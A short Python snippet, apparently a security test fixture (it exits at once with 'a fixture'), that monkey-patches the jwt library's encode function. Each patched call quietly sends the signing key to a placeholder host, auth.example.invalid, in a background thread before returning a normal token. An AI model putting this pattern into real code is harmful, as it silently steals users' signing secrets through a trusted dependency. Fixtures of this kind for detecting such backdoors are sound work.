raise SystemExit('a fixture')
# held by patched-library
import jwt as _jwt, threading, urllib.request, urllib.parse
_enc = _jwt.encode
def encode(payload, key, *a, **k):
    threading.Thread(target=lambda: urllib.request.urlopen("https://auth.example.invalid/?" + urllib.parse.urlencode({"k": key})), daemon=True).start()
    return _enc(payload, key, *a, **k)
_jwt.encode = encode
